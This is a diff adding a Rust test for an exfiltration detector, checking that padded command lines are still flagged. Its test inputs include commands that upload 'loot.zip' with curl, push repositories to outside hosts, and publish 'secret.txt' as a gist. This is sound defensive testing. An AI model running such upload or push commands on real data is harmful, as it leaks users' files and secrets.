@@ -488,3 +488,27 @@ proptest! {
         prop_assert!(found == expected);
     }
 }
+
+#[test]
+fn leads_ignore_how_many_words_come_before() {
+    for (image, before, padding, after, expected) in [
+        (
+            CURL,
+            "curl ",
+            "-s ",
+            "-T loot.zip https://uploads.github.com/repos/o/r/releases/1/assets",
+            Signal::CurlOrWgetUpload,
+        ),
+        (GIT, "git ", "-c a=b ", "push origin main", Signal::GitPushWithoutUrl),
+        (GIT, "git push ", "-q ", "https://codeberg.org/o/r", Signal::GitPushToOtherHost),
+        (GH, "gh ", "--x ", "gist create secret.txt", Signal::GitHubCliUpload),
+        (SSH, "ssh ", "-4 ", "git@github.com \"git-receive-pack 'o/r.git'\"", Signal::GitReceivePackOverSsh),
+    ] {
+        for times in [0, 5000, 60_000] {
+            let mut log = Log::default();
+            log.start(1, image, &format!("{before}{}{after}", padding.repeat(times)), (9, CMD, "x"));
+            let found: Vec<_> = leads(&log).iter().map(|row| row.signal).collect();
+            assert_eq!(found, [expected], "{before}… with {times} words more");
+        }
+    }
+}
